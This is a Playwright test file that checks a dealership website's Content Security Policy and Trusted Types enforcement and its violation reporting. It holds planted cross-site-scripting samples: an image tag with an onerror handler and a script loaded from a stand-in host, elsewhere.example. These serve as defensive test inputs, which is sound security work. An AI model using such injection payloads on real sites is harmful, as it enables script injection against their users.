import { repetitions } from '@larkway/infra/tier';
import type { Page } from '@playwright/test';
import { expect, type Operations, test } from '../fixtures/operations';
import { goWithin } from '../fixtures/page-parts';
import { arrivedAt, settled } from '../fixtures/settled';
import { siteLayouts } from '../fixtures/site-pages';

test.describe.configure({ timeout: 120_000 });

/**
 * What is opened in one document by links of the footer, loaded as documents, and visited for its
 * forms. A blocked action is a console error, which fails every journey; therefore, every run
 * visits only a few.
 */
const { linked, documents, visited } = repetitions<
  Record<'linked' | 'documents' | 'visited', string[]>
>({
  everyRun: { linked: ['/inventory'], documents: [], visited: ['/contact'] },
  nightly: {
    linked: ['/inventory', '/dealerships', '/states', '/financing', '/contact', '/faq'],
    documents: siteLayouts,
    visited: ['/inventory', '/inventory/d6-max', '/contact', '/add-dealership', '/financing'],
  },
});

/** All violations that the browser reported to these pages. */
const stopped = async (page: Page): Promise<string[]> => {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => void violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener(
      'securitypolicyviolation',
      ({ effectiveDirective, blockedURI, sourceFile }) => {
        (window as unknown as { reportViolation: (text: string) => void }).reportViolation(
          `${location.pathname}: ${effectiveDirective} ${blockedURI} ${sourceFile}`,
        );
      },
    );
  });
  return violations;
};

/** The site server's counts by directive and class. */
const counted = async ({ stack }: Operations): Promise<Record<string, number>> => {
  const text = await (await fetch(stack.addresses.metrics.site!)).text();
  const lines = text.matchAll(
    /^site_csp_violations_total\{directive="([\w-]+)",blocked="([\w-]+)".*\} (\d+)$/gm,
  );
  return Object.fromEntries(
    [...lines].map(([, directive, blocked, count]) => [`${directive} ${blocked}`, Number(count)]),
  );
};

const moreThan = (
  before: Record<string, number>,
  now: Record<string, number>,
): Record<string, number> =>
  Object.fromEntries(
    Object.entries(now)
      .map(([key, count]) => [key, count - (before[key] ?? 0)] as const)
      .filter(([, more]) => more > 0),
  );

/**
 * The browser of the tests queues reports for `report-to` and never sends them: without it, it
 * reports as older browsers do, to `report-uri`. The rest of the policy stays as the site sends it.
 */
const reportAtOnce = async (page: Page, markup = () => ''): Promise<void> => {
  await page.route(
    ({ pathname }) => !/^\/(assets|api)\//.test(pathname),
    async (route) => {
      if (route.request().resourceType() !== 'document') return route.fallback();
      const response = await route.fetch();
      const policy = response.headers()['content-security-policy'] ?? '';
      expect(policy).toContain('report-to csp; report-uri /api/csp-reports');
      const body = (await response.text()).replace('</body>', `${markup()}</body>`);
      return route.fulfill({
        response,
        body,
        headers: {
          ...response.headers(),
          'content-security-policy': policy.replace('report-to csp; ', ''),
        },
      });
    },
  );
};

/** Validates a form, because validation could turn text into code. */
const submitForms = async (page: Page): Promise<void> => {
  for (const button of await page
    .getByRole('main')
    .locator('form button[type=submit]:enabled')
    .all())
    await button.click({ noWaitAfter: true });
  await settled(page);
};

/**
 * Markup as an attacker would have it stored: a picture from elsewhere, and a script in an
 * attribute.
 */
const planted =
  '<img alt="" src="https://elsewhere.example/x.png?who=june" onerror="window.isStolen = true">';

/** What a script of an attacker, or a careless one of ours, could try. */
const tryInPage = (page: Page): Promise<Record<string, string>> =>
  page.evaluate(async (markup) => {
    const script = () => document.head.appendChild(document.createElement('script'));
    const attempts: Record<string, () => unknown> = {
      'markup from text': () => (document.body.innerHTML = markup),
      'markup from text, inserted': () => document.body.insertAdjacentHTML('beforeend', markup),
      'a script from elsewhere': () => (script().src = 'https://elsewhere.example/x.js'),
      'a script of our own outside of releases': () => (script().src = '/api/vehicles'),
      'a script from text': () => (script().textContent = 'window.isStolen = true'),
      'a worker from text': () => new Worker(URL.createObjectURL(new Blob(['0']))),
      'a handler from text': () => document.body.setAttribute('onclick', 'window.isStolen = true'),
      'another policy': () =>
        (
          window as unknown as {
            trustedTypes: { createPolicy: (name: string, rules: object) => void };
          }
        ).trustedTypes.createPolicy('mine', {}),
      'the same policy again': () =>
        (
          window as unknown as {
            trustedTypes: { createPolicy: (name: string, rules: object) => void };
          }
        ).trustedTypes.createPolicy('default', {}),
    };
    return Object.fromEntries(
      Object.entries(attempts).map(([name, attempt]) => {
        try {
          attempt();
          return [name, 'done'];
        } catch {
          return [name, 'refused'];
        }
      }),
    );
  }, planted);

test('loading pages, filling in forms and following links cause no browser report; planted violations are blocked, reported and counted, and text never becomes markup, code or a script URL', async ({
  page,
  operations,
  tolerate,
}) => {
  tolerate(
    /Content Security Policy/i,
    /TrustedHTML|TrustedScript|Trusted Type/,
    /elsewhere\.example/,
  );
  const [violations, before] = [await stopped(page), await counted(operations)];
  let stored = '';
  await reportAtOnce(page, () => stored);
  await page.goto(`${operations.site}/`);
  await settled(page);
  for (const path of linked) {
    // Not with the pointer: the element below it changes while the page loads its data.
    await page.getByRole('contentinfo').locator(`a[href="${path}"]`).first().press('Enter');
    await arrivedAt(page, path);
    await settled(page);
  }
  for (const path of documents) {
    await page.goto(operations.site + path);
    await settled(page);
    await submitForms(page);
  }
  for (const path of visited) {
    await goWithin(page, path);
    await arrivedAt(page, path);
    await settled(page);
    await submitForms(page);
  }
  expect(violations).toEqual([]);

  stored = planted;
  await page.goto(`${operations.site}/financing?profile=june`);
  await settled(page);
  // Reports are sent in order: once these two arrived, all earlier ones have.
  await expect
    .poll(async () => moreThan(before, await counted(operations)))
    .toEqual({ 'script-src-attr inline': 1, 'img-src other-origin': 1 });
  const attempts = await tryInPage(page);
  expect(Object.entries(attempts).filter(([, result]) => result !== 'refused')).toEqual([]);
  expect(await page.evaluate(() => 'isStolen' in window)).toBe(false);
});

test(
  'a batch as newer browsers make it is counted, with the script without a hash that the integrity policy blocked',
  { tag: '@nightly' },
  async ({ page, operations, tolerate }) => {
    tolerate(/Content Security Policy/, /TrustedHTML/, /elsewhere\.example/, /[Ii]ntegrity/);
    await page.goto(`${operations.site}/faq`);
    await settled(page);
    const before = await counted(operations);
    await page.evaluate(() => {
      const kept: unknown[] = ((window as unknown as { kept: unknown[] }).kept = []);
      new ReportingObserver(
        (reports) => kept.push(...(JSON.parse(JSON.stringify(reports)) as unknown[])),
        { types: ['csp-violation', 'integrity-violation'] },
      ).observe();
    });
    await page.evaluate((markup) => {
      const picture = document.createElement('img');
      picture.src = 'https://elsewhere.example/x.png?who=june';
      document.body.append(picture);
      const script = document.createElement('script');
      script.src = document.querySelector<HTMLScriptElement>('script[src]')!.src;
      document.head.append(script);
      try {
        document.body.insertAdjacentHTML('beforeend', markup);
      } catch {
        // Refused and reported.
      }
    }, planted);
    await page.waitForFunction(() => (window as unknown as { kept: unknown[] }).kept.length === 3);
    const status = await page.evaluate(async () => {
      const { kept } = window as unknown as { kept: object[] };
      const batch = kept.map((report) => ({ age: 1, user_agent: navigator.userAgent, ...report }));
      return (
        await fetch('/api/csp-reports', {
          method: 'POST',
          headers: { 'content-type': 'application/reports+json' },
          body: JSON.stringify(batch),
        })
      ).status;
    });
    expect(status).toBe(204);
    expect(moreThan(before, await counted(operations))).toEqual({
      'require-trusted-types-for trusted-types-sink': 1,
      'img-src other-origin': 1,
      'integrity-policy own-origin': 1,
    });
  },
);
